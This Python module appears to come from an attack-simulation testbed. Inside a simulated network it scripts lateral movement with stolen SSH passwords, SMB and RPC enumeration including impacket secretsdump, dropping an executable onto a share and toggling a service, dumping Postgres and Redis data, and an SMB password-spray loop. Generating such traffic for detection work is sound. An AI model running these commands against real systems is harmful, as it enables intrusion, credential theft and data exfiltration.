"""Moving on from a host that was broken into: stolen passwords, shares, services, databases."""

from training.testbed.acts import Kind, Running, Stage
from training.testbed.services.cache import password
from training.testbed.services.database import DATABASE
from training.testbed.services.files import listed
from training.testbed.world import USERS

SSH = ("-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR")
LINES = (
    "id",
    "uname -a",
    "ls -la",
    "ls -la /run/testbed",
    "cat /etc/passwd",
    "ip address",
    "ps aux | head -n 80",
    "cat /proc/net/tcp",
    "find . -type f | head -n 60",
    "head -c 20000 /dev/urandom | base64",
    "last",
)
TOOLS = ("smbclient", "rpcclient", "impacket", "net")


def _asked(stage: Stage, user: str) -> dict[str, str]:
    """Return the environment in which ssh takes the stolen password."""
    script = stage.folder / "ask"
    script.write_text(f"#!/bin/sh\necho '{stage.world.passwords[user]}'\n")
    script.chmod(0o700)
    return {"SSH_ASKPASS": str(script), "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": ":0"}


def _ssh(stage: Stage, program: str) -> list[str]:
    return [program, *SSH, "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1"]


def _look_around(stage: Stage, shell: Running, lines: int) -> None:
    for _ in range(lines):
        stage.pause(min(10.0, float(stage.settings["pace_s"]) * stage.rng.lognormvariate(0.0, 0.7)))
        shell.say(stage.rng.choice(LINES) + "\n")


def hop(stage: Stage) -> None:
    """Log in with a stolen password, bring a tool along, and go on to the next host from there."""
    rng = stage.rng
    user = str(stage.settings["user"] or rng.choice(USERS))
    first, second = stage.settings["hops"]
    env = _asked(stage, user)
    tool = stage.folder / "tool"
    with tool.open("wb") as out:
        out.truncate(int(200_000 * rng.lognormvariate(0.0, 1.0)))
    place = f".{rng.getrandbits(24):x}"
    limit_s = float(stage.settings["longest_s"])
    shell = stage.start(*_ssh(stage, "ssh"), "-tt", f"{user}@{stage.world.name(first)}", env=env, limit_s=limit_s)
    _look_around(stage, shell, 1 + int(rng.expovariate(1 / 3)))
    stage.run(*_ssh(stage, "scp"), "-q", str(tool), f"{user}@{stage.world.name(first)}:{place}", env=env)
    inner = [*_ssh(stage, "ssh"), "-tt", f"{user}@{stage.world.name(second)}"]
    onward = stage.start(*inner, env=env, limit_s=limit_s, at=first)
    _look_around(stage, onward, 2 + int(rng.expovariate(1 / 5)))
    if rng.random() < 0.6:
        there = f"{user}@{stage.world.name(second)}:{place}"
        stage.run(*_ssh(stage, "scp"), "-q", str(tool), there, env=env, at=first)
    onward.say(f"rm -f {place}; exit\n")
    onward.wait(5.0)
    _look_around(stage, shell, int(rng.expovariate(0.5)))
    shell.say("exit\n")
    shell.wait(5.0)


def _known(stage: Stage, user: str) -> str:
    """Return a name with its stolen password, as Samba's tools want it."""
    return f"{user}%{stage.world.passwords[user]}"


def enumerate_shares(stage: Stage) -> None:
    """Ask hosts for their shares, users, groups, services and registry, over SMB and DCERPC."""
    rng = stage.rng
    tool = str(stage.settings["tool"] or rng.choice(TOOLS))
    user = str(stage.settings["user"] or rng.choice(USERS))
    store = stage.world.name("store")
    for other in rng.sample(("web", "infra", "desk", "office"), rng.randint(0, 3)):
        stage.run(
            "smbclient", "-t", "3", "-g", "-L", f"//{stage.world.name(other)}", "-U", _known(stage, user), ok=None
        )
    for words in _questions(stage, tool, user, store):
        stage.run(*words, ok=None, limit_s=20.0)
        stage.pause(min(8.0, float(stage.settings["pace_s"]) * rng.lognormvariate(0.0, 0.7)))


def _questions(stage: Stage, tool: str, user: str, store: str) -> list[list[str]]:
    rng = stage.rng
    if tool == "smbclient":
        shares = [
            ["smbclient", f"//{store}/{name}", "-U", _known(stage, user), "-c", "recurse;ls"]
            for name in ("office", "drop", "admin$")
        ]
        return [["smbclient", "-g", "-L", f"//{store}", "-U", _known(stage, user)], *shares]
    if tool == "rpcclient":
        asked = [
            "srvinfo",
            "enumdomusers",
            "enumdomgroups",
            "querydominfo",
            "netshareenumall",
            "lsaquery",
            "lsaenumsid",
        ]
        asked += [f"queryuser {number}" for number in range(1_000, 1_006)] + [f"lookupnames {name}" for name in USERS]
        many = [";".join(rng.sample(asked, rng.randint(3, len(asked)))) for _ in range(rng.randint(1, 3))]
        return [["rpcclient", store, "-U", _known(stage, user), "-c", each] for each in many]
    if tool == "impacket":
        target = f"{user}:{stage.world.passwords[user]}@{stage.world.host('store').v4}"
        names = rng.sample(("impacket-samrdump", "impacket-secretsdump", "impacket-netview"), 2)
        return [[name, target] if name != "impacket-netview" else _netview(stage, user) for name in names]
    keys = ("HKLM\\SOFTWARE", "HKLM\\SYSTEM", "HKLM\\SYSTEM\\CurrentControlSet\\Services", "HKU")
    asked = ["service list", "service status Spooler", "user", "share", "rpc info"]
    known = ["-S", store, "-U", _known(stage, "backup")]
    return [
        *(["net", "rpc", *each.removeprefix("rpc ").split(), *known] for each in rng.sample(asked, 3)),
        *(["net", "rpc", "registry", "enumerate", key, *known] for key in rng.sample(keys, 2)),
    ]


def _netview(stage: Stage, user: str) -> list[str]:
    names = stage.folder / "targets"
    names.write_text(stage.world.host("store").v4 + "\n")
    return ["impacket-netview", f"{user}:{stage.world.passwords[user]}", "-targets", str(names), "-noloop"]


def drop(stage: Stage) -> None:
    """Leave a program on a share, try to have it started as a service, and take files along."""
    rng = stage.rng
    user = str(stage.settings["user"] or rng.choice(USERS))
    store = stage.world.name("store")
    tool = stage.folder / "tool.exe"
    with tool.open("wb") as out:
        out.truncate(int(150_000 * rng.lognormvariate(0.0, 1.0)))
    lines = ["ls", f"put {tool} {rng.getrandbits(32):x}.exe", "ls"]
    stage.run("smbclient", f"//{store}/drop", "-U", _known(stage, user), "-c", ";".join(lines), ok=None)
    stage.pause(rng.lognormvariate(0.3, 0.6))
    known = ["-S", store, "-U", _known(stage, "backup")]
    for what in ("stop Spooler", "start Spooler", "status NETLOGON"):
        if rng.random() < 0.7:
            stage.run("net", "rpc", "service", *what.split(), *known, ok=None)
            stage.pause(rng.lognormvariate(-0.3, 0.6))
    gets = [f"get {name} {stage.folder}/taken" for name in rng.sample(listed(stage.world), rng.randint(1, 12))]
    stage.run("smbclient", f"//{store}/office", "-U", _known(stage, user), "-c", ";".join(gets), ok=None, limit_s=40.0)


def loot(stage: Stage) -> None:
    """Take what databases hold, with passwords that were found; from the first host or the next."""
    rng = stage.rng
    at = str(stage.settings["at"]) if rng.random() < 0.5 else ""
    store = stage.world.name("store")
    sql = {"PGPASSWORD": stage.world.passwords["ada"], "PGSSLMODE": rng.choice(("disable", "prefer"))}
    cache = {"REDISCLI_AUTH": password(stage.world)}
    into = str(stage.folder / "loot")
    target = ["-h", store, "-U", "ada", DATABASE]
    ways: dict[str, tuple[list[str], dict[str, str]]] = {
        "pg_dump": (["pg_dump", "--no-sync", "-t", "customers", "-t", "orders", "-f", into, *target], sql),
        "copy": (["psql", "-X", "-q", *target, "-o", into, "-c", "copy customers to stdout"], sql),
        "schema": (["psql", "-X", *target, "-c", "\\l", "-c", "\\du", "-c", "\\dt+", "-c", "\\d customers"], sql),
        "rdb": (["redis-cli", "-h", store, "--rdb", into], cache),
        "keys": (["redis-cli", "-h", store, "--scan"], cache),
        "sizes": (["redis-cli", "-h", store, "--bigkeys"], cache),
        "config": (["redis-cli", "-h", store, "config", "get", "*"], cache),
    }
    for name in stage.settings["ways"] or rng.sample(sorted(ways), rng.randint(2, 4)):
        words, env = ways[name]
        stage.run(*words, env=env, ok=None, limit_s=40.0, at=at)
        stage.pause(min(8.0, float(stage.settings["pace_s"]) * rng.lognormvariate(0.0, 0.7)))


def spray(stage: Stage) -> None:
    """Try a few common passwords on every account of the file server, one after the other."""
    rng = stage.rng
    words = [f"{rng.choice(('summer', 'winter', 'monday', 'welcome'))}{rng.randint(10, 99)}" for _ in range(40)]
    words = words[: int(stage.settings["passwords"])]
    accounts = [*USERS, *rng.sample(("admin", "root", "test", "scan", "office", "info"), 3)]
    tool = str(stage.settings["tool"] or rng.choice(("smbclient", "rpcclient")))
    store = stage.world.host("store").v4
    one = f"smbclient -t 5 -g -L //{store}" if tool == "smbclient" else f"rpcclient {store} -c getusername"
    pause = f"sleep {float(stage.settings['pause_s']):.2f};" if stage.settings["pause_s"] else ""
    script = stage.folder / "spray.sh"
    loop = f"for p in {' '.join(words)}; do for u in {' '.join(accounts)}; do {one} -U $u%$p; {pause} done; done"
    script.write_text(loop + "\n")
    stage.run("sh", str(script), ok=None, limit_s=110.0)


SSHD = ("shell-web", "shell-store")
SMB = {
    "smbclient": "smbclient",
    "rpcclient": "smbclient",
    "net": "samba-common-bin",
    "impacket-samrdump": "python3-impacket",
}
DATA = {"psql": "postgresql-client-15", "pg_dump": "postgresql-client-15", "redis-cli": "redis-tools"}
KINDS = (
    Kind(
        "lateral-ssh",
        "lateral",
        hop,
        {"ssh": "openssh-client", "scp": "openssh-client"},
        SSHD,
        30.0,
        150.0,
        {"user": "", "hops": ("web", "store"), "pace_s": 1.5, "longest_s": 140.0},
    ),
    Kind(
        "lateral-enum",
        "lateral",
        enumerate_shares,
        SMB,
        ("files",),
        8.0,
        110.0,
        {"tool": "", "user": "", "pace_s": 0.8},
    ),
    Kind("lateral-drop", "lateral", drop, SMB, ("files",), 6.0, 90.0, {"user": ""}),
    Kind(
        "lateral-loot",
        "lateral",
        loot,
        DATA,
        ("postgres", "redis"),
        6.0,
        120.0,
        {"at": "web", "ways": (), "pace_s": 0.8},
    ),
    Kind("smb-spray", "bruteforce", spray, SMB, ("files",), 10.0, 115.0, {"tool": "", "passwords": 4, "pause_s": 0.0}),
)
